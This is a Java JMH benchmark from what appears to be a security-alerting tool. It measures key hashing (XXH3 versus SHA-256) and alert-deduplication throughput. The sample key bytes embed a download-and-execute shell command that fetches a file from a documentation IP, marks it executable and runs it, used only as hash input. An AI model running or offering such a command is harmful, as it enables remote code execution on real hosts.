package io.spawnwatch.bench;

import com.dynatrace.hash4j.hashing.HashValue128;
import com.dynatrace.hash4j.hashing.Hasher128;
import com.dynatrace.hash4j.hashing.Hashing;
import io.spawnwatch.rules.alert.AlertDeduplicator;
import io.spawnwatch.rules.baseline.Key;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/**
 * The key work of a rule match that reaches the baseline or the repeat
 * suppression, with the previous implementation beside it in the same run:
 * hashing one key's bytes (a domain, a web shell's command line, a parent
 * executable, a uid: 180 bytes) with XXH3-128 as KeyHasher does now, and
 * with SHA-256 as it did; and admitting alert keys into the repeat
 * suppression (10,000 keys, the default suppression.max_keys) as
 * AlertDeduplicator does now (primitive open-addressed LRU) and as it did (an
 * access-ordered LinkedHashMap of Key records and window objects, copied
 * here as it was). {@code flood}: every key new, evicting the oldest (an
 * attack with a fresh token per step); {@code repeat}: keys already held.
 * With {@code -prof gc}: bytes per operation.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Warmup(iterations = 5, time = 1)
@Measurement(iterations = 5, time = 1)
@Fork(value = 1, jvmArgsAppend = {"-XX:+UseSerialGC"})
public class KeyTableBenchmark {
    private static final int MAX_KEYS = 10_000;
    private static final long WINDOW = 600_000_000_000L;

    @Param({"flood", "repeat"})
    public String keys;

    private final byte[] input = ("rule-318e95ea/alert" + "sh -c curl -so /tmp/.x123456 http://203.0.113.7:8080/x"
            + " && chmod +x /tmp/.x123456 && /tmp/.x123456" + "/usr/sbin/php-fpm8.2" + "33" + "0123456789abcdef")
            .getBytes(StandardCharsets.UTF_8);
    private final Hasher128 xxh3 = Hashing.xxh3_128(0x5eedL);
    private MessageDigest sha256;
    private final byte[] digest = new byte[32];
    private AlertDeduplicator primitive;
    private BoxedDeduplicator boxed;
    private long counter;
    private long now;

    @Setup(Level.Trial)
    public void open() throws Exception {
        sha256 = MessageDigest.getInstance("SHA-256");
        primitive = new AlertDeduplicator(MAX_KEYS);
        boxed = new BoxedDeduplicator(MAX_KEYS);
    }

    /** The next key: a new one per operation (flood) or one of 1,000 held ones (repeat). */
    private long nextKey() {
        counter++;
        return "flood".equals(keys) ? counter : counter % 1_000;
    }

    @Benchmark
    public long hashXxh3() {
        input[40] = (byte) counter++;
        HashValue128 h = xxh3.hashBytesTo128Bits(input, 0, input.length);
        return h.getMostSignificantBits() ^ h.getLeastSignificantBits();
    }

    /** Baseline: the hash KeyHasher used before. */
    @Benchmark
    public long hashSha256() throws Exception {
        input[40] = (byte) counter++;
        sha256.reset();
        sha256.update(input, 0, input.length);
        sha256.digest(digest, 0, 32);
        return digest[0] ^ digest[31];
    }

    @Benchmark
    public long admitPrimitive() {
        long k = nextKey() * 0x9E3779B97F4A7C15L;
        return primitive.admit(k, ~k, now += 1_000_000_000L, WINDOW);
    }

    /** Baseline: the deduplicator as it was, with a Key object per admit. */
    @Benchmark
    public long admitBoxed() {
        long k = nextKey() * 0x9E3779B97F4A7C15L;
        return boxed.admit(new Key(k, ~k), now += 1_000_000_000L, WINDOW);
    }

    /** AlertDeduplicator before the primitive tables (commit e22194d), for comparison only. */
    static final class BoxedDeduplicator {
        private static final class Window {
            long start;
            long suppressed;
        }

        private final int maxKeys;
        private final Map<Key, Window> windows;

        BoxedDeduplicator(int maxKeys) {
            this.maxKeys = maxKeys;
            this.windows = new LinkedHashMap<>(256, 0.75f, true) {
                @Override
                protected boolean removeEldestEntry(Map.Entry<Key, Window> eldest) {
                    return size() > BoxedDeduplicator.this.maxKeys;
                }
            };
        }

        long admit(Key key, long nowNanos, long windowNanos) {
            Window w = windows.get(key);
            if (w != null && nowNanos - w.start < windowNanos) {
                w.suppressed++;
                return -1;
            }
            long repeats = w == null ? 0 : w.suppressed;
            if (w == null) {
                w = new Window();
                windows.put(key, w);
            }
            w.start = nowNanos;
            w.suppressed = 0;
            return repeats;
        }
    }
}
